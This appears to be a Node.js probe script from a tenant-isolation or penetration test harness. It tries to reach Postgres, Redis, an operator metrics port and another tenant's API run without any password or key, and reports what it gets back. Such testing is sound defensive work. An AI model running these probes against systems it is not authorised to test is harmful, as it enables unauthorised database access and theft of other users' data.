// Services of the machine, without a password or key.
import { connect } from "node:net";
import { attempt, targets } from "./attempt.mjs";

const { victim, engine } = targets;

/** What a server says to the bytes, or null when nobody listens. */
const ask = (host, port, bytes) =>
  new Promise((resolve) => {
    const socket = connect({ host, port });
    const got = [];
    const end = () => {
      socket.destroy();
      resolve(got.length === 0 ? null : Buffer.concat(got));
    };
    socket.on("connect", () => socket.write(bytes));
    socket.on("data", (chunk) => got.push(chunk));
    socket.on("error", end);
    socket.on("close", end);
    setTimeout(end, 1500);
  });
const startup = () => {
  const body = Buffer.from(`\0\x03\0\0user\0djinnbot_system\0database\0${targets.postgres.database}\0\0`, "latin1");
  const length = Buffer.alloc(4);
  length.writeInt32BE(body.length + 4);
  return Buffer.concat([length, body]);
};

export async function tryNetwork() {
  for (const host of targets.hosts) {
    await attempt(`Postgres at ${host} without a password`, async () => {
      const said = await ask(host, targets.postgres.port, startup());
      // R with 0: signed in. Anything else asks for a password or refuses.
      return said !== null && said[0] === 0x52 && said.readInt32BE(5) === 0 && "signed in";
    });
    await attempt(`Redis at ${host} without a password`, async () => {
      const said = await ask(host, targets.redis.port, "KEYS *\r\n");
      return said !== null && !/^-(NOAUTH|NOPERM|ERR)/.test(said.toString()) && said.toString();
    });
    await attempt(`engine's port for operators at ${host}`, async () => {
      const said = await ask(host, engine.port, "GET /metrics HTTP/1.0\r\n\r\n");
      return said?.toString().includes(" 200 ") && "metrics";
    });
    await attempt(`another tenant's run at the API of ${host} without a key`, async () => {
      const request = `GET /v1/runs/${victim.runId} HTTP/1.0\r\nHost: ${host}\r\n\r\n`;
      const said = await ask(host, targets.api.port, request);
      return said?.toString().includes(" 200 ") && said.toString();
    });
  }
}
